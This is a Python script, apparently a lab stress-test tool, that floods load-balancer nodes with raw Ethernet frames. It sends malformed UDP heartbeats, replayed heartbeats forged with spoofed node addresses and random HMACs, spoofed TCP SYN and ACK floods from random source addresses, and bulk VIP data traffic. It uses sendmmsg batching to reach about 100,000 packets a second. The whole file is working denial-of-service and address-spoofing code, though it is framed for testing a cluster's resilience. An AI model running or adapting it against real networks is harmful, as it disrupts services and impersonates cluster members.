#!/usr/bin/python3
"""A forged-heartbeat flood for the lab, run inside the client namespace: UDP datagrams to
each target node's membership port, round robin, TTL 255, on a raw AF_PACKET socket.

  --kind random   random bytes (1..400 of them): rejected as malformed, or worse
  --kind bad_mac  real heartbeats of the farm (--template: a capture of them, one per sending
                  node at least), each with a fresh sequence number and a random HMAC in
                  place of its own: a header that looks valid (whatever the wire version),
                  which only the MAC check can refuse. To node k go node j's (j != k),
                  from node j's address.
  --kind vip      VIP traffic, not heartbeats: TCP ACK segments with 1200 bytes of data to
                  the target (the VIP's MAC and address) port 443 (a farm rule's port that
                  nothing listens on: the kernel answers a reset) from --sources (client
                  addresses, so every node owns some), random source ports: what fills the
                  rings towards the nodes' kernels.
  --kind ack      spoofed TCP ACKs (no data) to the target (the VIP's MAC and address) port 80
                  from random sources outside the lab (10.100-249.x.x, random ports): each
                  tuple once per --pool frames (make it larger than rate x syn timeout so no
                  tuple is seen twice within it); checksums left 0 (the data plane reads no
                  checksum, and the kernel has no route back to such sources).
  --kind syn      the same, as SYNs (no ACK number): each a new embryonic flow.

Bounded: --rate datagrams a second in all (default 10^5), for at most --seconds and at most
--count datagrams; stops when --stop-file exists. Frames are built before the clock starts
(a pool per target, sent in turn), so the rate is the socket's, not Python's packet
building, and they go out in sendmmsg() batches. Prints one JSON line at the end: {"sent": N, "seconds": S, "rate": R, "by": {..}}.
"""
import argparse
import ctypes
import json
import os
import random
import socket
import struct
import time


class Iovec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]


class MsgHdr(ctypes.Structure):
    _fields_ = [("msg_name", ctypes.c_void_p), ("msg_namelen", ctypes.c_uint32),
                ("msg_iov", ctypes.c_void_p), ("msg_iovlen", ctypes.c_size_t),
                ("msg_control", ctypes.c_void_p), ("msg_controllen", ctypes.c_size_t),
                ("msg_flags", ctypes.c_int)]


class MMsgHdr(ctypes.Structure):
    _fields_ = [("msg_hdr", MsgHdr), ("msg_len", ctypes.c_uint32)]


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def frame(src_mac, dst_mac, src, dst, payload, sport=9470, dport=9470, ttl=255):
    src_ip, dst_ip = socket.inet_aton(src), socket.inet_aton(dst)
    udp_len = 8 + len(payload)
    pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, 17, udp_len)
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
    csum = checksum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.getrandbits(16), 0x4000,
                     ttl, 17, 0, src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x08\x00"
    f = eth + ip + udp
    return f + b"\0" * max(0, 60 - len(f))


def tcp_frame(src_mac, dst_mac, src, dst, payload, sport, dport):
    """An IPv4 TCP ACK segment carrying payload, checksums right."""
    src_ip, dst_ip = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), random.getrandbits(32),
                      5 << 4, 0x10, 65535, 0, 0) + payload
    pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000,
                     64, 6, 0, src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x08\x00"
    return eth + ip + tcp


def templates(path):
    """{source address: [heartbeat payload, ...]} of a capture (scapy reads it)."""
    from scapy.all import IP, UDP, rdpcap
    out = {}
    for p in rdpcap(path):
        if IP in p and UDP in p:
            out.setdefault(p[IP].src, []).append(bytes(p[UDP].payload))
    return out


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--iface", required=True)
    ap.add_argument("--src-mac", required=True)
    ap.add_argument("--src", default="10.77.0.250", help="source address (random kind)")
    ap.add_argument("--target", action="append", required=True,
                    help="ID=MAC=ADDR of a node to flood (repeated)")
    ap.add_argument("--kind", choices=["random", "bad_mac", "vip", "ack", "syn"], default="random")
    ap.add_argument("--sources", default="", help="vip: comma-separated source addresses")
    ap.add_argument("--template", help="bad_mac: a pcap of the farm's heartbeats")
    ap.add_argument("--port", type=int, default=9470)
    ap.add_argument("--rate", type=float, default=1e5)
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--count", type=int, default=10 ** 6)
    ap.add_argument("--pool", type=int, default=512, help="distinct frames per target")
    ap.add_argument("--stop-file", required=True)
    a = ap.parse_args()

    targets = []
    for spec in a.target:
        k, mac, addr = spec.split("=")
        targets.append((int(k), mac, addr))
    real = templates(a.template) if a.kind == "bad_mac" else {}
    pools = []
    for k, mac, addr in targets:
        pool = []
        ack_eth = (bytes.fromhex(mac.replace(":", "")) + bytes.fromhex(a.src_mac.replace(":", "")) +
                   b"\x08\x00")
        others = sorted(src for src in real if src != addr)
        if a.kind == "bad_mac" and not others:
            raise SystemExit(f"flood: no heartbeat of another node than {addr} in {a.template}")
        for i in range(a.pool):
            if a.kind == "random":
                payload = os.urandom(random.randint(1, 400))
                pool.append(frame(a.src_mac, mac, a.src, addr, payload, dport=a.port))
            elif a.kind in ("ack", "syn"):
                src = struct.pack("!BBBB", 10, random.randrange(100, 250), random.randrange(256),
                                  random.randrange(1, 255))
                syn = a.kind == "syn"
                tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), 80,
                                  random.getrandbits(32), 0 if syn else random.getrandbits(32),
                                  5 << 4, 0x02 if syn else 0x10, 65535, 0, 0)
                ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, src,
                                 socket.inet_aton(addr))
                pool.append(ack_eth + ip + tcp + b"\0" * 6)
            elif a.kind == "vip":
                sources = a.sources.split(",")
                pool.append(tcp_frame(a.src_mac, mac, sources[i % len(sources)], addr,
                                      os.urandom(1200), random.randint(1024, 65535), 443))
            else:
                src = others[i % len(others)]
                hb = real[src][i % len(real[src])]
                (seq,) = struct.unpack_from(">Q", hb, 28)  # the sequence, in every version
                hb = hb[:28] + struct.pack(">Q", seq + (1 << 20) + i) + hb[36:-32] + os.urandom(32)
                pool.append(frame(a.src_mac, mac, src, addr, hb, dport=a.port))
        pools.append(pool)

    # Every frame in the order they go out (round robin over the targets), each one
    # message of a sendmmsg() batch: one system call sends up to a millisecond's worth, so
    # the rate is the kernel's, not one Python call per frame (issue 16: 10^5 a second on
    # a loaded 2-vCPU host).
    n = len(targets)
    flat = [pools[t][i] for i in range(a.pool) for t in range(n)]
    data = ctypes.create_string_buffer(b"".join(flat))
    iov = (Iovec * len(flat))()
    msgs = (MMsgHdr * len(flat))()
    base = ctypes.addressof(data)
    offset = 0
    for j, f in enumerate(flat):
        iov[j].iov_base = base + offset
        iov[j].iov_len = len(f)
        msgs[j].msg_hdr.msg_iov = ctypes.addressof(iov) + j * ctypes.sizeof(Iovec)
        msgs[j].msg_hdr.msg_iovlen = 1
        offset += len(f)
    libc = ctypes.CDLL(None, use_errno=True)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((a.iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    by = [0] * n
    sent = 0
    start = time.monotonic()
    end = start + a.seconds
    batch = max(1, int(a.rate / 1000))  # one batch a millisecond at full rate
    next_check = 0
    while sent < a.count:
        now = time.monotonic()
        if now >= end:
            break
        if sent >= next_check:
            if os.path.exists(a.stop_file):
                break
            next_check = sent + 10000
        # Behind the schedule (the sender was not scheduled), it catches up in calls of at
        # most 1024 frames, reading the clock between them: never past its deadline.
        due = min(a.count, int((now - start) * a.rate) + batch)
        if sent >= due:
            time.sleep(0.0005)
            continue
        pos = sent % len(flat)
        want = min(due - sent, len(flat) - pos, 1024)
        went = libc.sendmmsg(s.fileno(), ctypes.byref(msgs, pos * ctypes.sizeof(MMsgHdr)), want, 0)
        if went <= 0:
            time.sleep(0.0002)  # the device queue is full: count only what went out
            continue
        for t in range(n):  # frames pos..pos+went-1 went to targets (index mod n)
            by[t] += (pos + went - t + n - 1) // n - (pos - t + n - 1) // n
        sent += went
    took = time.monotonic() - start
    s.close()
    print(json.dumps({"sent": sent, "seconds": round(took, 3), "rate": round(sent / took) if took else 0,
                      "by": {str(targets[i][0]): by[i] for i in range(n)}}))


if __name__ == "__main__":
    main()
